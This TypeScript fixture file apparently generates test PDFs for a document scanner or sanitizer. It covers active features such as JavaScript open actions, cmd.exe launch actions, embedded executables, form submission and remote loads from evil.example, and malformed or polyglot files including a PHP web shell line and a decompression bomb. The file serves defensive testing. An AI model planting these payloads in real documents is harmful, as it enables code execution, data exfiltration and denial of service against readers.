import { deflateSync } from 'node:zlib';
import { buildPackedPdf, buildPdf, stream } from './pdf.ts';

const annotation = (entries: string) => ({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]` });
const link = (action: string) => annotation(`/Subtype /Link /A << ${action} >>`);
const SCRIPT = '/S /JavaScript /JS (app.alert(1))';

/** Everything in a PDF that does more than show pages, as parts of a document. */
export const ACTIVE_PARTS: Record<string, Parameters<typeof buildPdf>[0]> = {
  'a script that runs on opening': { catalog: `/OpenAction << ${SCRIPT} >>` },
  'a script in an object of its own': { catalog: '/OpenAction 5 0 R', extra: [`<< ${SCRIPT} >>`] },
  'an action behind an action that only turns a page': {
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << ${SCRIPT} >> >>`,
  },
  'an opening action that is not there': { catalog: '/OpenAction 77 0 R' },
  'a script whose kind stands elsewhere': {
    catalog: '/OpenAction << /S 5 0 R /JS (app.alert(1)) >>',
    extra: ['/JavaScript'],
  },
  'a script without a kind': link('/S /Rendition /JS (app.alert(1))'),
  'a script on closing': { catalog: `/AA << /WC << ${SCRIPT} >> >>` },
  'a script on turning to a page': { page: `/AA << /O << ${SCRIPT} >> >>` },
  'scripts by name': { catalog: `/Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>` },
  'a form of another kind': { catalog: '/AcroForm << /Fields [] /XFA (<xdp/>) >>' },
  'a field that computes': { catalog: `/AcroForm << /Fields [<< /T (a) /AA << /K << ${SCRIPT} >> >> >>] >>` },
  'a program to start': { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' },
  'a link to a program': link('/S /Launch /Win << /F (cmd.exe) >>'),
  'files in the file': { catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', extra: ['<< /A 1 >>'] },
  'a file in the file': { extra: [stream('/Type /EmbeddedFile', 'MZ')] },
  'a portfolio': { catalog: '/Collection << /View /D >>' },
  'a file behind a pin': annotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>'),
  'a description of a file': { extra: ['<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>'] },
  'moving pictures of today': annotation('/Subtype /RichMedia /RichMediaContent << >>'),
  'moving pictures of yesterday': annotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a screen': annotation('/Subtype /Screen'),
  'a sound': annotation('/Subtype /Sound'),
  'a thing in space': annotation('/Subtype /3D'),
  'a form that is sent': link('/S /SubmitForm /F (http://evil.example)'),
  'a form that is filled': link('/S /ImportData /F (a.fdf)'),
  'a form that is emptied': link('/S /ResetForm'),
  'another file': link('/S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit]'),
  'a file inside': link('/S /GoToE /T << >>'),
  'a menu command': link('/S /Named /N /Print'),
  'something to hide': link('/S /Hide /T (a)'),
  'layers to switch': link('/S /SetOCGState /State []'),
  'a command to moving pictures': link('/S /RichMediaExecute /CMD << >>'),
  'a script behind a link': link('/S /URI /URI (javascript:alert(1))'),
  'a script behind a link, in other letters': link('/S /URI /URI ( JaVa\\012Script:alert\\(1\\))'),
  'a script behind a link, in digits': link('/S /URI /URI <6a6176617363726970743a61>'),
  'a file behind a link': link('/S /URI /URI (file:///etc/passwd)'),
  'data behind a link': link('/S /URI /URI (data:text/html,x)'),
  'a link that stands elsewhere': { ...link('/S /URI /URI 5 0 R'), extra: ['(javascript:alert(1))'] },
  'a script in escaped letters': { catalog: '/OpenAction << /S /J#61v#61Script /J#53 (app.alert(1)) >>' },
  'an opening action in escaped letters': { catalog: `/Open#41ction << ${SCRIPT} >>` },
  'a program in escaped letters': link('/S /L#61unch'),
  'a form in escaped letters': { catalog: '/AcroForm << /#58#46#41 (x) >>' },
};

const between = (text: string | Buffer) => buildPdf({ between: text });
const after = (text: string | Buffer) => buildPdf({ after: text });
const whole = buildPdf();
const END_OF_ZIP = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
const pageOf = (kids: string, extra: string[] = []) =>
  buildPdf({ pages: `<< /Type /Pages /Kids [${kids}] /Count 1 >>`, extra });
const flate = '/Filter /FlateDecode';
const picture = (entries: string) => buildPdf({ extra: [stream(`/Type /XObject /Subtype /Image ${entries}`, 'x')] });

/** Broken, polyglot or oversized documents. */
export const BROKEN_PDFS: Record<string, Buffer> = {
  'with something before its head': Buffer.concat([Buffer.from(' '), whole]),
  'of an unknown version': buildPdf({ header: '%PDF-3.0\n' }),
  'without a version': buildPdf({ header: '%PDF-\n' }),
  'with a page of the web behind it': after('<html><script>alert(1)</script></html>'),
  'with plain text behind it': after('hello'),
  'with a program behind it': after('MZ\x90\0\x03'),
  'with an archive behind it': after(END_OF_ZIP),
  'with an archive in a comment': between(Buffer.concat([Buffer.from('%'), END_OF_ZIP, Buffer.from('\n')])),
  'with an archive in a stream': buildPdf({ content: Buffer.concat([Buffer.from('PK\x03\x04'), END_OF_ZIP]) }),
  'with another kind of archive in a stream': buildPdf({ content: 'Rar!\x1a\x07\x00' }),
  'with the head of a tape': buildPdf({ header: `%PDF-1.7\n%${' '.repeat(247)}ustar\n` }),
  'with the head of a disc': buildPdf({ header: `%PDF-1.7\n%${' '.repeat(0x8001 - 10)}CD001\n` }),
  'with a page of the web in a comment': between('%<html><body onload=alert(1)>\n'),
  'with a script of the web in a stream': buildPdf({ content: '<ScRiPt src=//evil.example>' }),
  'with a script of a server in a stream': buildPdf({ content: '<?php system($_GET[0]); ?>' }),
  'with a drawing of the web in a text': buildPdf({ catalog: '/Lang (<svg onload=alert\\(1\\)>)' }),
  'with a script in a comment': between('%9 0 obj << /S /JavaScript >> endobj\n'),
  'with a script in a stream for those who repair': buildPdf({ content: '9 0 obj<</S/JavaScript/JS(x)>>endobj' }),
  'with loose words between objects': between('hello\n'),
  'with an object that has no end': between('9 0 obj << >>\n'),
  'with half a dictionary': between('9 0 obj << /A endobj\n'),
  'with a key twice': buildPdf({ catalog: '/Lang (a) /Lang (b)' }),
  'with a key that is no name': buildPdf({ catalog: '(a) (b)' }),
  'with a text without end': buildPdf({ catalog: '/Lang (a' }),
  'with digits that are none': buildPdf({ catalog: '/Lang <zz>' }),
  'with a word that means nothing': buildPdf({ catalog: '/Lang maybe' }),
  'with a number that is none': buildPdf({ catalog: '/Lang 1.2.3' }),
  'nested without end': buildPdf({ catalog: `/A ${'['.repeat(5_000)}${']'.repeat(5_000)}` }),
  'of a million values': buildPdf({ catalog: `/A [${'1 '.repeat(1_000_000)}]` }),
  'whose list is elsewhere': buildPdf({ startOfList: (real) => real + 1 }),
  'whose list is at its head': buildPdf({ startOfList: () => 0 }),
  'whose list leads elsewhere': buildPdf({ offsetOf: (real) => real + 1 }),
  'whose list leads into a stream': buildPdf({ offsetOf: () => 250 }),
  'whose earlier list is not there': buildPdf({ trailer: '/Prev 12345' }),
  'without a root': Buffer.from(whole.toString('latin1').replace('/Root 1 0 R', '/Root 9 0 R'), 'latin1'),
  'that is encrypted': buildPdf({ trailer: '/Encrypt << /Filter /Standard /V 4 >>' }),
  'that is encrypted, and packed': buildPackedPdf({ trailer: '/Encrypt << /Filter /Standard /V 4 >>' }),
  'without pages': pageOf(''),
  'whose pages go in a circle': pageOf('2 0 R'),
  'whose page is not there': pageOf('99 0 R'),
  'whose page comes twice': pageOf('3 0 R 3 0 R'),
  'whose page is something else': pageOf('5 0 R', ['<< /Type /Font >>']),
  'of a thousand pages': pageOf(
    Array.from({ length: 1_000 }, (_, index) => `${index + 5} 0 R`).join(' '),
    Array.from({ length: 1_000 }, () => '<< /Type /Page >>'),
  ),
  'with a stream that is longer than it says': buildPdf({
    extra: ['<< /Length 2 >>\nstream\n5 0 obj\nendstream'],
  }),
  'with a stream that is shorter than it says': buildPdf({ extra: ['<< /Length 999 >>\nstream\nx\nendstream'] }),
  'with a stream of unknown length': buildPdf({ extra: ['<< /Length 9 0 R >>\nstream\nx\nendstream'] }),
  'with a stream that begins too early': buildPdf({ extra: ['<< /Length 1 >>\nstream x\nendstream'] }),
  'with a stream in another file': buildPdf({ extra: [stream('/F (//evil.example/a)', '')] }),
  'with a stream that cannot be unpacked': buildPdf({ contentDictionary: flate, content: 'not packed' }),
  'with half a packed stream': buildPdf({
    contentDictionary: flate,
    content: deflateSync(Buffer.alloc(9_999, 'abc')).subarray(0, 20),
  }),
  'packed twice': buildPdf({
    contentDictionary: '/Filter [/FlateDecode /FlateDecode]',
    content: deflateSync(deflateSync(Buffer.from('BT ET'))),
  }),
  'that unpacks to hundreds of megabytes': buildPdf({
    contentDictionary: flate,
    content: deflateSync(Buffer.alloc(90 * 1024 * 1024)),
  }),
  'with a picture of a gigapixel': picture('/Width 40000 /Height 40000'),
  'with a picture without a size': picture('/Width 9'),
  'with an unknown filter': buildPdf({ contentDictionary: '/Filter /Magic' }),
  'with a filter for secrets': buildPdf({ contentDictionary: '/Filter /Crypt' }),
  'with an old filter': buildPdf({ contentDictionary: '/Filter /LZWDecode' }),
  'with a filter that was broken into': buildPdf({ contentDictionary: '/Filter /JBIG2Decode' }),
  'with a package that does not call itself one': buildPackedPdf(ACTIVE_PARTS['a program to start'], { type: '' }),
  'with a package that is none': buildPackedPdf({}, { container: 4 }),
  'with a package of too many objects': buildPackedPdf({}, { count: 999_999 }),
  'with a package that begins behind its end': buildPackedPdf({}, { first: 999_999 }),
  'with a package in a filter for pictures': buildPackedPdf({}, { filter: '/DCTDecode' }),
  ...Object.fromEntries(
    [0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.97].flatMap((share) => [
      [`of which ${share} is there`, whole.subarray(0, Math.floor(whole.length * share))],
      [`packed, of which ${share} is there`, cut(buildPackedPdf(), share)],
    ]),
  ),
};

function cut(content: Buffer, share: number): Buffer {
  return content.subarray(0, Math.floor(content.length * share));
}
